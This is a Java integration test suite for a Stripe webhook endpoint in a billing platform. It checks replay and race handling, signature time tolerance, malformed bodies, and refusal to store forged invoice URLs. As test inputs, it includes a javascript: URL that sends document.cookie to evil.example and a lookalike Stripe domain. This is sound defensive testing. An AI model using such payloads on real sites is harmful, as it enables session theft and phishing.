package uk.org.eelga.platform.billing;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.stripe.net.Webhook;
import io.micronaut.context.annotation.Value;
import jakarta.inject.Inject;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import uk.org.eelga.platform.support.Api;
import uk.org.eelga.platform.support.Fixtures;
import uk.org.eelga.platform.support.LocalStripe;
import uk.org.eelga.platform.support.PlatformIT;
import uk.org.eelga.platform.support.Race;
import uk.org.eelga.platform.support.TestDatabase;
import uk.org.eelga.platform.talentbank.TalentBankJourneys;
import uk.org.eelga.stripe.stub.StripeStub;
import uk.org.eelga.tenancy.TenantScope;

/**
 * Stripe's webhook attacked as an attacker with a captured or forged event would: many events for one invoice at
 * once, page addresses that are not Stripe's, signatures dated outside the tolerance, signed bodies that are not
 * events. Signatures are made here as Stripe makes them ({@link Webhook.Util#computeHmacSha256}), with the secret
 * the platform is configured with.
 */
@PlatformIT
class StripeWebhookSafetyIT {

    private static final URI WEBHOOK = URI.create(Api.base() + "/api/v1/stripe/webhook");
    private static final HttpClient HTTP =
            HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
    private static final ObjectMapper JSON = new ObjectMapper();

    @Inject
    TalentBankJourneys journeys;

    @Inject
    Invoices invoices;

    @Inject
    BillingOutbox outbox;

    @Inject
    StripeConnection stripe;

    @Inject
    StripeReconciliation reconciliation;

    @Value("${eelga.stripe.webhook-secret}")
    String secret;

    private StripeStub stub;
    private InvoiceSummary invoice;

    @BeforeEach
    void sentInvoice() throws Exception {
        TestDatabase.clearTenantData();
        stub = LocalStripe.stub();
        invoice = journeys.invoiced(Fixtures.NORA, "PO-HOOK");
        outbox.sendDue(Instant.now());
        invoice = ours();
        assertThat(invoice.status()).isEqualTo(InvoiceStatus.OPEN);
    }

    @Test
    void twenty_distinct_signed_paid_events_for_one_invoice_at_once_are_applied_once() {
        String stripeId = invoice.stripeInvoiceId();
        List<String> events = new ArrayList<>();
        events.add(stub.pay(stripeId));
        long now = Instant.now().getEpochSecond();
        while (events.size() < Race.CALLERS) {
            events.add(stub.event("invoice.paid", stripeId, now));
        }

        List<Answer> answers = Race.run(Race.CALLERS, i -> () -> post(events.get(i), now));

        assertThat(answers).allSatisfy(a -> assertThat(a.status()).isEqualTo(200));
        assertThat(answers.stream().filter(a -> a.body().contains("APPLIED"))).hasSize(1);
        assertThat(answers.stream().filter(a -> a.body().contains("OUTDATED"))).hasSize(19);
        assertThat(ours().status()).isEqualTo(InvoiceStatus.PAID);
        assertThat(Race.count("select count(*) from stripe_event where stripe_object = '" + stripeId + "'"))
                .isEqualTo(20);
        assertThat(Race.count("select count(*) from stripe_event where stripe_object = '" + stripeId
                        + "' and outcome = 'APPLIED'"))
                .isEqualTo(1);
        // the payment reached the Talent Bank once: one move to PAID in the request's history
        assertThat(Race.count("select count(*) from talent_bank_history where to_status = 'PAID'"))
                .isEqualTo(1);
    }

    @Test
    void reconciliations_and_webhooks_racing_for_one_payment_apply_it_once() {
        String stripeId = invoice.stripeInvoiceId();
        String paid = stub.pay(stripeId);
        long now = Instant.now().getEpochSecond();

        List<String> outcomes = Race.run(
                Race.CALLERS,
                i -> () -> i % 2 == 0
                        ? "reconciled " + reconciliation.reconcile()
                        : post(paid, now).body());

        assertThat(ours().status()).isEqualTo(InvoiceStatus.PAID);
        long moved = outcomes.stream().filter(o -> o.equals("reconciled 1")).count()
                + outcomes.stream().filter(o -> o.contains("APPLIED")).count();
        assertThat(moved).as(outcomes.toString()).isEqualTo(1);
        assertThat(Race.count("select count(*) from talent_bank_history where to_status = 'PAID'"))
                .isEqualTo(1);
    }

    @Test
    void the_same_event_delivered_twenty_times_at_once_is_recorded_and_applied_once() {
        String paid = stub.pay(invoice.stripeInvoiceId());
        long now = Instant.now().getEpochSecond();

        List<Answer> answers = Race.run(() -> post(paid, now));

        assertThat(answers).allSatisfy(a -> assertThat(a.status()).isEqualTo(200));
        assertThat(answers.stream().filter(a -> a.body().contains("APPLIED"))).hasSize(1);
        assertThat(answers.stream().filter(a -> a.body().contains("ALREADY_RECEIVED")))
                .hasSize(19);
        assertThat(Race.count("select count(*) from talent_bank_history where to_status = 'PAID'"))
                .isEqualTo(1);
    }

    @Test
    void a_signed_event_with_a_javascript_page_address_is_applied_but_the_address_is_not_stored() throws Exception {
        String before = invoice.hostedUrl();
        assertThat(before).startsWith(stub.baseUrl() + "/hosted/");
        String failed = withHostedUrl(
                stub.event(
                        "invoice.payment_failed",
                        invoice.stripeInvoiceId(),
                        Instant.now().getEpochSecond()),
                "javascript:fetch('https://evil.example/?c='+document.cookie)");

        Answer answer = post(failed, Instant.now().getEpochSecond());

        assertThat(answer.body()).contains("APPLIED");
        InvoiceSummary after = ours();
        assertThat(after.status()).isEqualTo(InvoiceStatus.PAYMENT_FAILED);
        assertThat(after.hostedUrl()).isEqualTo(before);
        assertThat(Api.get("/api/v1/invoices/" + invoice.id(), norwichToken())
                        .json()
                        .get("hostedUrl")
                        .asText())
                .isEqualTo(before);
    }

    @Test
    void a_forged_address_on_a_payment_is_not_stored_and_stripes_own_address_is() throws Exception {
        String before = invoice.hostedUrl();
        String forged = withHostedUrl(
                stub.event(
                        "invoice.payment_failed",
                        invoice.stripeInvoiceId(),
                        Instant.now().getEpochSecond()),
                "https://invoice.stripe.com.evil.example/i/acct_1");
        assertThat(post(forged, Instant.now().getEpochSecond()).body()).contains("APPLIED");
        assertThat(ours().hostedUrl()).isEqualTo(before);

        String stripes = "https://invoice.stripe.com/i/acct_1Abc/test_YWNjdF8x?s=ap";
        String paid = withHostedUrl(stub.pay(invoice.stripeInvoiceId()), stripes);
        assertThat(post(paid, Instant.now().getEpochSecond()).body()).contains("APPLIED");
        assertThat(ours().hostedUrl()).isEqualTo(stripes);
    }

    @Test
    void signatures_dated_beyond_the_tolerance_either_way_are_refused_and_nothing_is_recorded() {
        String paid = stub.pay(invoice.stripeInvoiceId());
        long now = Instant.now().getEpochSecond();

        Answer future = post(paid, now + 600);
        assertThat(future.status()).isEqualTo(400);
        assertThat(future.body()).contains("invalid-signature", "future");
        Answer past = post(paid, now - 600);
        assertThat(past.status()).isEqualTo(400);
        assertThat(past.body()).contains("invalid-signature");
        assertThat(Race.count(
                        "select count(*) from stripe_event where stripe_object = '" + invoice.stripeInvoiceId() + "'"))
                .isZero();
        assertThat(ours().status()).isEqualTo(InvoiceStatus.OPEN);

        Answer slightlyAhead = post(paid, now + 60); // clocks differ a little: within the tolerance
        assertThat(slightlyAhead.status()).isEqualTo(200);
        assertThat(ours().status()).isEqualTo(InvoiceStatus.PAID);
    }

    @Test
    void a_correctly_signed_body_that_is_not_a_json_event_is_a_400_problem_and_nothing_is_recorded() {
        long now = Instant.now().getEpochSecond();
        long recorded = Race.count("select count(*) from stripe_event");
        for (String body : List.of("this is not json", "{\"id\": ", "[]", "{}", "null", "\"text\"", "<xml/>")) {
            Answer answer = post(body, now);
            assertThat(answer.status()).as(body).isEqualTo(400);
            assertThat(answer.body()).as(body).containsAnyOf("not-json", "not-an-event");
            assertThat(answer.body()).doesNotContain("Exception", "gson", "at com.");
        }
        Answer unsigned = postSigned("this is not json", null);
        assertThat(unsigned.status()).isEqualTo(400);
        assertThat(unsigned.body()).contains("invalid-signature");
        assertThat(Race.count("select count(*) from stripe_event")).isEqualTo(recorded);
    }

    // --- helpers

    private static String norwichToken() {
        return uk.org.eelga.platform.support.DemoTokens.accessToken("officer@norwich.demo");
    }

    private static String withHostedUrl(String event, String url) throws Exception {
        ObjectNode root = (ObjectNode) JSON.readTree(event);
        ((ObjectNode) root.at("/data/object")).put("hosted_invoice_url", url);
        return JSON.writeValueAsString(root);
    }

    private InvoiceSummary ours() {
        return TenantScope.callAs(Fixtures.memberOf(Fixtures.NORWICH), () -> invoices.ours(invoice.id()))
                .orElseThrow();
    }

    /** Signs as Stripe does: v1 = HMAC-SHA256 of "timestamp.payload" with the endpoint's secret. */
    private Answer post(String payload, long timestamp) {
        try {
            String v1 = Webhook.Util.computeHmacSha256(secret, timestamp + "." + payload);
            return postSigned(payload, "t=" + timestamp + ",v1=" + v1);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static Answer postSigned(String payload, String signature) {
        try {
            HttpRequest.Builder request = HttpRequest.newBuilder(WEBHOOK)
                    .header("Content-Type", "application/json")
                    .POST(HttpRequest.BodyPublishers.ofString(payload));
            if (signature != null) {
                request.header("Stripe-Signature", signature);
            }
            HttpResponse<String> response = HTTP.send(request.build(), HttpResponse.BodyHandlers.ofString());
            return new Answer(response.statusCode(), response.body());
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private record Answer(int status, String body) {}
}
